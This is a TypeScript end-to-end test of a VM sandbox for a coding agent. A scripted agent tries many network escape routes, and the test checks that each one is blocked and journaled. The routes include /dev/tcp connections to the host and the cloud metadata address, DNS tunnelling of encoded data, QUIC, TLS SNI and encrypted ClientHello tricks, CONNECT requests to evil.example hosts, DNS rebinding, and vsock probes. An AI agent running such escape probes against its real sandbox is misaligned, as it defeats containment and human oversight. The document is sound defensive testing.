import assert from "node:assert/strict";
import { describeDecision } from "../../src/network/network_decision.ts";
import { verifyNetworkJournal } from "../../src/network/network_journal.ts";
import type { ResultDocument } from "../../src/local/run_local_task.ts";
import { run } from "../support/command.ts";
import { startModelServer } from "../support/model_server/model_server.ts";
import { scriptPrefix } from "../support/model_server/script.ts";
import { assertNothingLeft, hostKind, onVmHost, sandbox, withFolder } from "../support/sandbox_cli.ts";
import { clientHello, printfText, serverName } from "../support/wire_messages.ts";

/** One way out that the agent tries. */
interface Attempt {
  readonly what: string;
  /** shell command; it must fail, or print what `answer` says */
  readonly command: string;
  /** what a command prints that fails politely */
  readonly answer?: RegExp;
  /** the decision that has to be in the journal (default: the guest's own kernel refuses) */
  readonly denial?: RegExp;
}

/** A TLS handshake with the proxy; prints the alert that comes back. */
function tls(name: string, ...others: Parameters<typeof clientHello>[0]): string {
  const hello = printfText(clientHello([serverName(name), ...others]));
  return `exec 3<>/dev/tcp/172.30.0.1/443 || exit 1; printf '${hello}' >&3; head -c 7 <&3 | od -An -tu1 | tr -s ' '`;
}

const connect = (address: string, port: number): string =>
  `exec 3<>/dev/tcp/${address}/${port} && echo CONNECTED`;
const http = (port: number, ...lines: string[]): string =>
  `exec 3<>/dev/tcp/172.30.0.1/${port} || exit 1; printf '${
    lines.join("\\r\\n")
  }\\r\\n\\r\\n' >&3; head -c 300 <&3`;
const ACCESS_DENIED_ALERT = /21 3 3 0 2 2 49/;

function attempts(hostAddr: string, rebindName: string | undefined): readonly Attempt[] {
  const toAddress = /TCP to an address; only allowed names can be reached/;
  return [
    {
      what: "the host's side of the link",
      command: connect("172.30.0.1", 22),
      denial: /172\.30\.0\.1:22 \(TCP: nothing/,
    },
    { what: "the host's loopback by a public name's port", command: connect("127.0.0.1", 8080) },
    { what: "the host's own network address", command: connect(hostAddr, 22), denial: toAddress },
    { what: "the host's neighbours", command: connect("192.168.1.1", 80), denial: toAddress },
    { what: "another VM", command: connect("172.30.0.6", 1024), denial: /172\.30\.0\.6:1024 \(TCP/ },
    {
      what: "the metadata address",
      command: connect("169.254.169.254", 80),
      denial: /169\.254\.169\.254:80 \(TCP/,
    },
    { what: "an address of the Internet", command: connect("1.1.1.1", 443), denial: /1\.1\.1\.1:443 \(TCP/ },
    {
      what: "a denied name",
      command: connect("denied.example.com", 443),
      denial: /denied\.example\.com \(not in allow-list; allow with --allow denied\.example\.com\)/,
    },
    {
      what: "data in a name",
      command: "nslookup aGVsbG8gd29ybGQ.tunnel.example.net 172.30.0.1",
      denial: /aGVsbG8gd29ybGQ\.tunnel\.example\.net \(not in allow-list/,
    },
    {
      what: "another name server",
      command: "nslookup -timeout=2 example.com 8.8.8.8",
      denial: /8\.8\.8\.8:53 \(UDP \(DNS\)/,
    },
    {
      what: "QUIC",
      command: "printf x > /dev/udp/1.1.1.1/443; sleep 0.2; printf x > /dev/udp/1.1.1.1/443 && exit 1",
      denial: /1\.1\.1\.1:443 \(UDP \(QUIC\)/,
    },
    { what: "ping", command: "ping -c 1 -W 2 9.9.9.9", denial: /9\.9\.9\.9 \(ICMP does not leave/ },
    {
      what: "a Host that is not allowed",
      command: http(80, "GET / HTTP/1.1", "Host: evil.example.com"),
      answer: /403 denied[^]*denied: evil\.example\.com:80/,
      denial: /evil\.example\.com:80 \(not in allow-list/,
    },
    {
      what: "a Host that is an address",
      command: http(80, "GET / HTTP/1.1", "Host: 169.254.169.254"),
      answer: /403 denied/,
      denial: /169\.254\.169\.254:80 \(addresses cannot be reached/,
    },
    {
      what: "a Host that differs from the target",
      command: http(3128, "GET http://allowed.example.org/ HTTP/1.1", "Host: evil.example.com"),
      answer: /400 denied/,
      denial: /its target allowed\.example\.org and its Host evil\.example\.com differ/,
    },
    {
      what: "a server name that is not allowed",
      command: tls("evil.example.com"),
      answer: ACCESS_DENIED_ALERT,
      denial: /evil\.example\.com:443 \(not in allow-list/,
    },
    {
      what: "an encrypted ClientHello",
      command: tls("allowed.example.org", { type: 0xfe0d, content: [0, 0, 1, 0, 1, 5, 0, 0, 0, 0] }),
      answer: ACCESS_DENIED_ALERT,
      denial: /allowed\.example\.org:443 \(encrypted ClientHello/,
    },
    {
      what: "CONNECT to a denied name",
      command: http(3128, "CONNECT evil.example.net:443 HTTP/1.1", "Host: evil.example.net:443"),
      answer: /403 denied/,
      denial: /evil\.example\.net:443 \(not in allow-list/,
    },
    {
      what: "CONNECT to an IPv6 address",
      command: http(3128, "CONNECT [::1]:443 HTTP/1.1", "Host: [::1]:443"),
      answer: /403 denied/,
      denial: /\[::1\]:443 \(addresses cannot be reached/,
    },
    { what: "IPv6", command: connect("2606:4700:4700::1111", 443) },
    ...rebindName === undefined ? [] : [{
      what: "an allowed name that resolves to the host",
      command: http(80, "GET / HTTP/1.1", `Host: ${rebindName}`),
      answer: /403 denied/,
      denial: /:80 \(name resolves to 127\.0\.0\.1 \(loopback\)\)/,
    }],
  ];
}

/** A command that prints how one attempt went, and how long that took. */
function tried({ what, command }: Attempt): string {
  const quoted = command.replaceAll("'", `'\\''`);
  return `start=$(date +%s); out=$(timeout 30 bash -c '${quoted}' 2>/tmp/err </dev/null); code=$?
    echo "=== ${what} code=$code seconds=$(($(date +%s) - start))"; echo "$out" | tr -d '\\r'`;
}

/** What the commands of {@linkcode tried} printed: of each attempt its code, its seconds, its output. */
function parseTried(output: string): Map<string, { code: number; seconds: number; text: string }> {
  const parts = output.split(/^=== /m).slice(1);
  return new Map(parts.map((part) => {
    const [, what = "", code, seconds, text = ""] = /^(.*) code=(\d+) seconds=(\d+)\n([^]*)$/.exec(part) ??
      [];
    return [what, { code: Number(code), seconds: Number(seconds), text }];
  }));
}

/** Makes a name resolve to the loopback of the host that runs the VMs; not where that is somebody's own machine. */
async function withRebinding(use: (name: string | undefined) => Promise<void>): Promise<void> {
  if (await hostKind() !== "emulated") return await use(undefined);
  const name = `rebind-${crypto.randomUUID().slice(0, 8)}.example.org`;
  await onVmHost(`echo '127.0.0.1 ${name}' >> /etc/hosts`);
  try {
    await use(name);
  } finally {
    await onVmHost(
      `grep -v ' ${name}$' /etc/hosts > /tmp/hosts.new; cat /tmp/hosts.new > /etc/hosts; rm /tmp/hosts.new`,
    );
  }
}

Deno.test("an agent that tries every way out finds none, and each is in the journal", async () => {
  const server = startModelServer();
  const hostAddr = (await onVmHost("ip -4 -o addr show scope global | head -1")).split(/\s+/)[3]?.split(
    "/",
  )[0];
  await withFolder((folder) =>
    withRebinding(async (rebindName) => {
      const all = attempts(hostAddr ?? "10.0.2.15", rebindName);
      await Deno.mkdir(`${folder}/repo`);
      const probe = new URL("vsock_probe.c", import.meta.url).pathname;
      run("musl-gcc", ["-static", "-O2", "-o", `${folder}/repo/vsock_probe`, probe]);
      const commands = [all.slice(0, 7), all.slice(7, 12), all.slice(12)].map((some) =>
        some.map(tried).join("\n")
      );
      const prefix = scriptPrefix({
        commands: [...commands, "./vsock_probe 2>&1; echo probe ended with $?"],
        finalText: "No way out.",
      });
      const { code, stdout, stderr } = await sandbox([
        ...["run", "codex", "escape", "--repo", `${folder}/repo`, "--out", `${folder}/out`, "--json"],
        ...["--model-url", `${server.url}${prefix}/v1`, "--allow", "allowed.example.org"],
        ...rebindName === undefined ? [] : ["--allow", rebindName],
      ], { OPENAI_API_KEY: "sk-e2e" });
      assert.equal(code, 0, stderr);

      const output = stdout.split("\n").filter((line) => line.includes('"type":"tool_result"'))
        .map((line) => (JSON.parse(line) as { event: { output: string } }).event.output).join("\n");
      const journal = await Deno.readTextFile(`${folder}/out/network.jsonl`);
      const denials = journal.split("\n").filter((line) => line.includes('"type":"decision"'))
        .map((line) => describeDecision(JSON.parse(line).decision));
      const results = parseTried(output);
      for (const { what, answer, denial } of all) {
        const result = results.get(what);
        assert.ok(result !== undefined, `${what} was tried: ${output}`);
        assert.ok(!result.text.includes("CONNECTED"), `${what}: ${result.text}`);
        if (answer === undefined) assert.notEqual(result.code, 0, `${what}: ${result.text}`);
        else assert.match(result.text, answer, what);
        assert.ok(result.seconds <= 8, `${what} took ${result.seconds} s`);
        if (denial === undefined) continue;
        assert.ok(
          denials.some((line) => line.startsWith("denied: ") && denial.test(line)),
          `${what}: ${denials.join("\n")}`,
        );
      }
      assert.match(output, /vsock 2:1025 /);
      assert.doesNotMatch(output, /vsock \d+:\d+ CONNECTED/);
      for (const target of ["vsock(2):1025", "vsock(2):22", "vsock(0):1024", "vsock(4):1024"]) {
        assert.ok(denials.some((line) => line.startsWith(`denied: ${target} (vsock`)), denials.join("\n"));
      }

      const result = JSON.parse(await Deno.readTextFile(`${folder}/out/result.json`)) as ResultDocument;
      assert.deepEqual(result.network?.journal, verifyNetworkJournal(journal));
      assert.equal(result.network?.allowed, 0);
      assert.match(stdout, /"type":"network".*denied\.example\.com/);
    })
  ).finally(() => server.close());
  await assertNothingLeft(30_000);
});
